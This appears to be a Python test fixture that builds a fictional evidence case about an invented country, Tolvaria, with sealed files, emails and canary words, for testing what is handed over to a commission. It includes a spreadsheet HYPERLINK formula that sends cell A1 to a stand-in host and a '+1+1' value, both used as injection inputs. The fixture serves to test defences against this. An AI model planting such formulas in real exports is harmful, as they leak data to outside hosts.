"""A case about an invented place with something of every rule in it, for the tests of handing over."""

from __future__ import annotations

from email.message import EmailMessage
from pathlib import Path

from witnessmark.case.case import Case, open_case
from witnessmark.case.deciding import decide
from witnessmark.case.handing_over import Asked, HandedOver, hand_over
from witnessmark.case.intake import Given, add
from witnessmark.case.pipeline import build, read
from witnessmark.case.weighing import weigh
from witnessmark.store import queries

RECIPIENT = "Commission of Inquiry on Tolvaria"
CANARIES = ("zimtvogel", "quarzfalke", "Orsolya Venk", "moorlilie", "ambergate")
"""Words of what is held back: names of files, words of texts, who gave a sensitive item."""

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'

BRIEFING = """Prison guards killed detainees at Korrin, envoy says

KORRIN, 15 May 2031 (Northern Wire) -- Guards at Korrin prison killed at least 40 detainees in March 2031, envoy Ana Brecht told reporters.
"""
DENIAL = """TOLVAR, 16 May 2031 (TNA) -- The Foreign Ministry of Tolvaria denied that any prisoner was killed at Korrin prison in March 2031. The zimtvogel allegations are baseless, it said.
"""


def make_case(root: Path) -> Path:
    """Build the case below `root`: eight files, one of them a mail with two attachments."""
    evidence = root / "evidence"
    evidence.mkdir(parents=True)
    (evidence / "briefing.txt").write_text(BRIEFING, encoding="utf-8")
    (evidence / "zimtvogel-denial.txt").write_text(DENIAL, encoding="utf-8")
    (evidence / "quarzfalke.txt").write_text("A witness account of quarzfalke, sealed.\n", encoding="utf-8")
    (evidence / "mail.eml").write_bytes(_mail())
    (evidence / "open.eml").write_bytes(_open_mail())
    (evidence / "nobody-decided-moorlilie.txt").write_text("moorlilie, of which nobody decided anything.\n", encoding="utf-8")
    build(evidence, root / "case", Given())
    with open_case(root / "case", write="test") as case:
        sensitive = root / "ledger-of-guards.csv"
        sensitive.write_text("name,shift\nA. Orr,night\n", encoding="utf-8")
        add(case, [sensitive], Given(received_from="Orsolya Venk", source="Orsolya Venk"))
        hostile = root / FORMULA.replace("/", "_")
        hostile.write_text("cmd\n", encoding="utf-8")
        add(case, [hostile], Given(received_from=FORMULA, source="+1+1", published="2031-05-16"))
        read(case)
        weigh(case)
        _decide(case)
    return root / "case"


def _mail() -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@example.invalid", "b@example.invalid", "two files"
    mail["Message-ID"] = "<1@example.invalid>"
    mail.set_content("Two files, one of them must not leave.\n")
    mail.add_attachment("free to go\n", filename="free.txt")
    mail.add_attachment("the ambergate list\n", filename="ambergate.txt")
    return bytes(mail)


def _open_mail() -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@example.invalid", "b@example.invalid", "one file"
    mail["Message-ID"] = "<2@example.invalid>"
    mail.set_content("One file, for whoever asks.\n")
    mail.add_attachment("annex, goes where the mail goes\n", filename="annex.txt")
    return bytes(mail)


def number_of(case: Case, name: str) -> str:
    """The short number of the item first received under this name."""
    with case.asking() as connection:
        found = next(item for item, receipts in queries.receipts(connection).items() if receipts[0].name == name)
        return queries.labels(connection)[found].number


def _decide(case: Case) -> None:
    said = (
        ("briefing.txt", "release", "released"),
        ("mail.eml", "release", "released"),
        ("open.eml", "release", "restricted"),
        ("free.txt", "release", "released"),
        ("ledger-of-guards.csv", "release", "restricted"),
        ("ledger-of-guards.csv", "protection", "sensitive"),
        ("ledger-of-guards.csv", "consent", "store,share"),
        (FORMULA.replace("/", "_"), "release", "released"),
        ("zimtvogel-denial.txt", "release", "withheld"),
        ("quarzfalke.txt", "protection", "sealed"),
        ("ambergate.txt", "protection", "sealed"),
    )
    for name, field, value in said:
        decide(case, number_of(case, name), field, value, why="Only for the Commission, not to be published.")


LEAVING = {"briefing.txt", "open.eml", "annex.txt", "free.txt", "ledger-of-guards.csv", FORMULA.replace("/", "_")}
"""What may leave: the annex goes with its mail; the mail with the sealed attachment stays."""


def handed_over(case: Path, out: Path, **asked: object) -> HandedOver:
    """Hand over to the commission."""
    with open_case(case, write="test") as opened:
        return hand_over(opened, Asked(RECIPIENT, **asked), out)  # type: ignore[arg-type]
